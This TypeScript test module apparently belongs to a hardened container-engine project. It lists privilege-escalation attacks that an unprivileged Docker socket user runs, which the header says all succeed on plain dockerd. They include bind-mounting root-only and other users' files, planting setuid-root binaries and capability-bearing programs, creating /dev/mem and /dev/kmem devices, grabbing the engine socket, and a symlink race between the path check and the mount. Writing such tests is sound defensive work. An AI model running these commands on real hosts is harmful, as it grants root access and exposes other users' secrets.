/**
 * What a user with nothing but the socket tries: each attack says whether it got what it wanted, told by its effect on
 * the host. All of them succeed on plain dockerd.
 */
import { spawn } from 'node:child_process';
import { existsSync, lstatSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { runCommand } from '../../src/engine/embedded/command.js';
import { copyingAttacks } from './copying-attacks.js';
import { engineAttacks } from './engine-attacks.js';
import { type Attack, enteringAttacks, secret } from './entering-attacks.js';
import { folderOf, isRootSetuid } from './traces.js';
import type { World } from './world.js';

const swapperProgram = fileURLToPath(new URL('swapper.mjs', import.meta.url));

/** Runs a shell script in a new container as mallory. */
async function inContainer(world: World, flags: readonly string[], script: string): Promise<string> {
  const run = ['run', '--rm', '--network', 'none', ...flags, 'busybox', 'sh', '-c', script];
  const { stdout, stderr } = await world.as(world.mallory, ...run);
  return stdout + stderr;
}

/** Attacks that read with a bind mount: flags with the source, and where the secret is inside. */
function reading(name: string, flags: (world: World) => Promise<string[]> | string[], file: string): Attack {
  return {
    name,
    run: async (world) => (await inContainer(world, await flags(world), `cat ${file}`)).includes(secret),
  };
}

const readingAttacks: readonly Attack[] = [
  reading('read a root-only file through its folder', ({ system }) => ['-v', `${system}:/s`], '/s/shadow'),
  reading('read a root-only file by its name', ({ system }) => ['-v', `${system}/shadow:/s`], '/s'),
  reading('read it with --mount', ({ system }) => ['--mount', `type=bind,src=${system},dst=/s`], '/s/shadow'),
  reading(
    'read it as a privileged container',
    ({ system }) => ['--privileged', '-v', `${system}:/s`],
    '/s/shadow',
  ),
  reading(
    'read it with --user root and all capabilities',
    ({ system }) => ['--cap-add=ALL', '-u0', '-v', `${system}:/s`],
    '/s/shadow',
  ),
  {
    name: 'read it from the whole host',
    run: async (world) =>
      (await inContainer(world, ['-v', '/:/host'], `cat /host${world.system}/shadow`)).includes(secret),
  },
  reading(
    'name a readable file in a folder that only root may enter',
    ({ base }) => ['-v', `${base}/root-only/readable:/s`],
    '/s',
  ),
  reading(
    'reach it by a symbolic link',
    async ({ mallory, base }) => {
      await mallory.shell(`ln -sfn ${base}/root-only link-out`);
      return ['-v', `${mallory.home}/link-out:/s`];
    },
    '/s/readable',
  ),
  reading(
    'reach it by a volume that is a bind',
    async (world) => {
      const options = ['--opt', 'type=none', '--opt', 'o=bind', '--opt', `device=${world.base}/root-only`];
      await world.as(world.mallory, 'volume', 'create', ...options, 'peek');
      return ['-v', 'peek:/s'];
    },
    '/s/readable',
  ),
  reading(
    'reach it by a volume made with the container',
    ({ base }) => [
      '--mount',
      `type=volume,src=peek-inline,dst=/s,volume-driver=local,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=${base}/root-only`,
    ],
    '/s/readable',
  ),
  reading(
    'read another user’s private file',
    async ({ victim }) => {
      await victim.shell(`chmod 711 .; echo ${secret} > private; chmod 600 private`);
      return ['-v', `${victim.home}/private:/s`];
    },
    '/s',
  ),
];

const writingAttacks: readonly Attack[] = [
  {
    name: 'write into a folder of the system',
    run: async (world) => {
      await inContainer(world, ['-v', `${world.system}:/s`], 'echo owned > /s/written');
      return existsSync(join(world.system, 'written'));
    },
  },
  {
    name: 'write into another user’s folder',
    run: async (world) => {
      const folder = await folderOf(world.victim, 'folder');
      await inContainer(world, ['-v', `${folder}:/s`], 'echo owned > /s/written');
      return existsSync(join(folder, 'written'));
    },
  },
  {
    name: 'write there with the other user’s number (--user)',
    run: async (world) => {
      const folder = await folderOf(world.victim, 'folder');
      await inContainer(world, ['--user', '61002:61002', '-v', `${folder}:/s`], 'echo owned > /s/by-number');
      return existsSync(join(folder, 'by-number'));
    },
  },
  {
    name: 'write there by an image with a planted USER',
    run: async (world) => {
      const folder = await folderOf(world.victim, 'folder');
      await world.as(world.mallory, 'create', '--name', 'planter', 'busybox', 'true');
      await world.as(world.mallory, 'commit', '--change', 'USER 61002:61002', 'planter', 'planted');
      const run = [
        'run',
        '--rm',
        '--network',
        'none',
        '-v',
        `${folder}:/s`,
        'planted',
        'touch',
        '/s/planted',
      ];
      await world.as(world.mallory, ...run);
      return existsSync(join(folder, 'planted'));
    },
  },
  {
    name: 'write another user’s file that everybody may write',
    run: async (world) => {
      await world.victim.shell('chmod 711 .; echo mine > open; chmod 644 open');
      const file = join(world.victim.home, 'open');
      await inContainer(world, ['-v', `${file}:/s`], 'chmod 777 /s; echo owned > /s');
      return readFileSync(file, 'utf8') === 'owned\n';
    },
  },
  {
    name: 'take another user’s file over (chown)',
    run: async (world) => {
      await world.victim.shell('chmod 711 .; echo mine > taken; chmod 644 taken');
      const file = join(world.victim.home, 'taken');
      await inContainer(world, ['-v', `${file}:/s`], 'chown 61001 /s; chmod 4755 /s');
      return statSync(file).uid !== world.victim.uid;
    },
  },
  {
    name: 'leave a program that runs as root (setuid)',
    run: async (world) => {
      const folder = await folderOf(world.mallory, 'work');
      const script = 'cp /bin/busybox /w/root; chown 0:0 /w/root; chmod 4755 /w/root';
      await inContainer(world, ['-v', `${folder}:/w`], script);
      return isRootSetuid(join(folder, 'root'));
    },
  },
  {
    name: 'leave a device of the host',
    run: async (world) => {
      const folder = await folderOf(world.mallory, 'work');
      const flags = ['--privileged', '-v', `${folder}:/w`];
      await inContainer(world, flags, 'mknod /w/memory c 1 1; chmod 666 /w/memory');
      return lstatSync(join(folder, 'memory'), { throwIfNoEntry: false })?.isCharacterDevice() === true;
    },
  },
  {
    name: 'leave a program with capabilities on the host',
    run: async (world) => {
      const folder = await folderOf(world.mallory, 'work');
      const setcap =
        'set -- /u/lib/*-linux-gnu/ld-linux-*; $1 --library-path $(dirname $1) /u/sbin/setcap cap_sys_admin+ep';
      const flags = ['--privileged', '-v', '/usr:/u:ro', '-v', `${folder}:/w`];
      await inContainer(world, flags, `cp /bin/busybox /w/capable; ${setcap} /w/capable`);
      // A namespaced capability (getcap's rootid) is worth nothing outside of the user's own namespaces.
      const { stdout } = await runCommand('getcap', ['-n', join(folder, 'capable')]);
      return stdout.includes('cap_sys_admin') && !stdout.includes('rootid=');
    },
  },
  {
    name: 'hard-link another user’s file into an own folder',
    run: async (world) => {
      const folder = await folderOf(world.victim, 'folder');
      await world.victim.shell('echo mine > folder/linked');
      const own = await folderOf(world.mallory, 'work');
      const script = `ln /h/user-61002/folder/linked /h/user-61001/work/linked`;
      await inContainer(world, ['-v', `${world.base}:/h`], script);
      await inContainer(world, ['-v', `${own}:/w`, '-v', `${folder}:/v`], 'ln /v/linked /w/linked');
      return statSync(join(folder, 'linked')).nlink > 1;
    },
  },
  {
    name: 'mount something on the host (propagation)',
    run: async (world) => {
      const folder = await folderOf(world.mallory, 'work');
      await world.mallory.shell('mkdir -p work/point');
      const flags = ['--privileged', '-v', `${folder}:/w:rshared`];
      await inContainer(world, flags, 'mount -t tmpfs none /w/point');
      const mounted = readFileSync('/proc/self/mountinfo', 'utf8').includes(join(folder, 'point'));
      await runCommand('umount', [join(folder, 'point')]);
      return mounted;
    },
  },
  {
    name: 'have a missing source made where only root may',
    run: async (world) => {
      await inContainer(world, ['-v', `${world.system}/made/by:/w`], 'true');
      return existsSync(join(world.system, 'made'));
    },
  },
  {
    name: 'have image content copied up into a host folder',
    run: async (world) => {
      const folder = await folderOf(world.mallory, 'copied');
      await world.as(
        world.mallory,
        'create',
        '--name',
        'setuid',
        'busybox',
        'chmod',
        '4755',
        '/data/by-root',
      );
      await world.as(world.mallory, 'start', '--attach', 'setuid');
      await world.as(world.mallory, 'commit', 'setuid', 'setuid-inside');
      const options = ['--opt', 'type=none', '--opt', 'o=bind', '--opt', `device=${folder}`];
      await world.as(world.mallory, 'volume', 'create', ...options, 'copied');
      await world.as(
        world.mallory,
        'run',
        '--rm',
        '--network',
        'none',
        '-v',
        'copied:/data',
        'setuid-inside',
        'true',
      );
      return isRootSetuid(join(folder, 'by-root'));
    },
  },
  {
    name: 'open a device of the kernel as a privileged container',
    run: async (world) => {
      const script = 'mknod /k c 1 11 && dd if=/k bs=8192 count=1 2>/dev/null | wc -c';
      return Number((await inContainer(world, ['--privileged'], script)).trim()) > 0;
    },
  },
  {
    name: 'hold the engine’s socket',
    run: async (world) => {
      const script = 'test -S /s && echo got it';
      return (await inContainer(world, ['-v', `${world.engine.socket}:/s`], script)).includes('got it');
    },
  },
  {
    name: 'hold the engine’s socket by its folder',
    run: async (world) => {
      const script = 'test -S /s/docker.sock && echo got it';
      return (await inContainer(world, ['-v', `${world.engine.folder}:/s`], script)).includes('got it');
    },
  },
  {
    name: 'be root of the host in a build step',
    run: async (world) => {
      const folder = await folderOf(world.mallory, 'build');
      writeFileSync(join(folder, 'Dockerfile'), 'FROM busybox\nRUN cat /proc/self/uid_map\n');
      const { stdout, stderr } = await world.as(
        world.mallory,
        'build',
        '--no-cache',
        '--network=none',
        folder,
      );
      return /\b0 +0 +4294967295/.test(stdout + stderr);
    },
  },
];

/** What `docker start` of a container with a bind shows, when the bind's source was exchanged since it was made. */
async function exchangedInBetween(world: World, { folder, link, spare }: Exchange): Promise<boolean> {
  const create = ['create', '--network', 'none', '-v', `${folder}:/s`, 'busybox', 'cat', '/s/readable'];
  const id = await world.mallory.must(world.cli, ...create);
  await world.mallory.shell(`mv ${folder} ${spare} && mv ${link} ${folder}`);
  const { stdout } = await world.as(world.mallory, 'start', '--attach', id);
  await world.mallory.shell(`mv ${folder} ${link} && mv ${spare} ${folder}`);
  return stdout.includes(secret);
}

/** The same while somebody exchanges it all the time: the kernel's scheduler chooses the moment. */
async function exchangedAllTheTime(
  world: World,
  { folder, link, spare }: Exchange,
  tries: number,
): Promise<boolean> {
  const swapper = spawn(process.execPath, [swapperProgram, folder, link, spare], { stdio: 'ignore' });
  try {
    for (let attempt = 0; attempt < tries; attempt++) {
      const create = ['create', '--network', 'none', '-v', `${folder}:/s`, 'busybox', 'cat', '/s/readable'];
      // Not by one `docker run --rm`: the client waits for good when the source is away just as it starts.
      const id = (await world.as(world.mallory, ...create)).stdout.trim();
      if (id === '') continue;
      if ((await world.as(world.mallory, 'start', '--attach', id)).stdout.includes(secret)) return true;
    }
    return false;
  } finally {
    swapper.kill('SIGKILL');
  }
}

interface Exchange {
  readonly folder: string;
  readonly link: string;
  readonly spare: string;
}

/**
 * Exchanges a folder for a link to one that only root may enter. First at the decisive moment, which the attacker can
 * choose: a container is checked when it is made and mounts when it starts. Then at random moments, for what lies
 * within one request; race.test.ts does that 10,000 times.
 */
const race: Attack = {
  name: 'win the race between the check of a path and its mount',
  run: async (world) => {
    const { home } = world.mallory;
    await world.mallory.shell(`mkdir -p swap && ln -sfn ${world.base}/root-only swap-link`);
    const [folder = '', link = '', spare = ''] = ['swap', 'swap-link', 'swap-spare'].map((name) =>
      join(home, name),
    );
    const exchange = { folder, link, spare };
    return (await exchangedInBetween(world, exchange)) || (await exchangedAllTheTime(world, exchange, 10));
  },
};

export const attacks: readonly Attack[] = [
  ...readingAttacks,
  race,
  ...writingAttacks,
  ...copyingAttacks,
  ...engineAttacks,
  ...enteringAttacks,
];
